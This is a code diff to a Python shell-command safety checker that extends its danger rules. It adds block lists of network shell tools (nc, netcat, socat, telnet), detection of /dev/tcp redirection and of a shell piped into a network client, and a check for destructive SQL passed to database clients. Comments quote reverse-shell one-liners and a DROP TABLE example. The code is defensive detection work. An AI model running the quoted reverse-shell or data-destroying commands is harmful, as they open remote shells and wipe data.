@@ -35,7 +35,15 @@ import re
 from typing import TYPE_CHECKING
 
 from . import shell_parse
-from .shell_rules import DYNAMIC, Cmd, Dangerous, is_block_device, judge_argv
+from .shell_rules import (
+    DYNAMIC,
+    NETWORK_CLIENTS,
+    Cmd,
+    Dangerous,
+    basename,
+    is_block_device,
+    judge_argv,
+)
 
 if TYPE_CHECKING:
     from tree_sitter import Node
@@ -60,6 +68,7 @@ _FIND = _word("find")
 _PIPED = _words("curl", "wget", "fetch", "aria2c", "http", "https", "lwp-request", "GET",
                 "wget2", "xh", "curlie", "base64", "xxd", "openssl", "uudecode")
 _SQL = _words("psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb")
+_NETWORK = _words("nc", "ncat", "netcat", "socat", "telnet")
 _FLAG_R = re.compile(r"-[a-zA-Z]*[rR]")
 _DYNAMIC_NAME = re.compile(r"\$\S*\s+(?:-\S+\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+[/~$]")
 _FUNCTION = re.compile(r"\(\s*\)\s*\{")
@@ -81,6 +90,8 @@ def _suspicious(text: str) -> bool:
                               or ("$" in n and _DYNAMIC_NAME.search(n) is not None)):
         return True
     if ("-delete" in n or "-exec" in n or "-ok" in n) and _FIND.search(n):
+        return True
+    if ("c" in n or "telnet" in n) and any(w.search(n) for w in _NETWORK):
         return True
     if ("|" in n or "`" in n or "<(" in n or "$(" in n or "<<" in n) and \
             any(w.search(n) for w in _PIPED):
@@ -105,6 +116,19 @@ def is_dangerous_shell(text: str) -> bool:
     except Exception:
         return True
     return False
+
+
+def runs_destructive_sql(text: str) -> bool:
+    """True when ``text`` is a shell command that hands a database client destructive SQL
+    (``psql -c "DROP TABLE users"``, ``mysql -e ...``, ``sqlite3 app.db "DELETE ..."``): the
+    destructive-SQL pack judges SQL wherever a command line carries it.
+
+    A command line that names a client and is dangerous for any reason counts: the shell
+    judgement is not split by cause, and such a line is blocked by either pack."""
+    if not isinstance(text, str) or not ("sql" in text or "mariadb" in text or "duckdb" in text):
+        return False
+    n = text.replace("'", "").replace('"', "").replace("\\", "")
+    return any(w.search(n) for w in _SQL) and is_dangerous_shell(text)
 
 
 class _Judge:
@@ -245,6 +269,8 @@ class _Walk:
             op = next((k.kind for k in kids if k.kind in _WRITES), None)
             if op and is_block_device(kids[-1].text):
                 raise Dangerous
+            if any(k.text.startswith(("/dev/tcp/", "/dev/udp/")) for k in kids):
+                raise Dangerous  # bash -i >& /dev/tcp/host/port: a shell on a socket
             return _R(kind, "", dl)
         if kind == "heredoc_redirect":
             body = next((k.text for k in kids if k.kind == "heredoc_body"), "")
@@ -296,7 +322,7 @@ class _Walk:
         stages = [k for k in kids if k.cmd is not None or k.kind in ("command",
                                                                        "redirected_statement")]
         names: list[str] = []
-        source = False
+        source = shell_before = False
         prev: Cmd | None = None
         for stage in stages:
             names.extend(stage.names)
@@ -306,6 +332,9 @@ class _Walk:
                 continue
             if cmd.stdin_code is not None and source:
                 raise Dangerous
+            if shell_before and cmd.argv and basename(cmd.argv[0]) in NETWORK_CLIENTS:
+                raise Dangerous  # ... | sh -i | nc host port: a shell's output to the network
+            shell_before = shell_before or cmd.stdin_code == "sh"
             if prev is not None and prev.emits is not None:
                 self.feed(cmd, prev.emits)
             if prev is not None and cmd.xargs is not None:
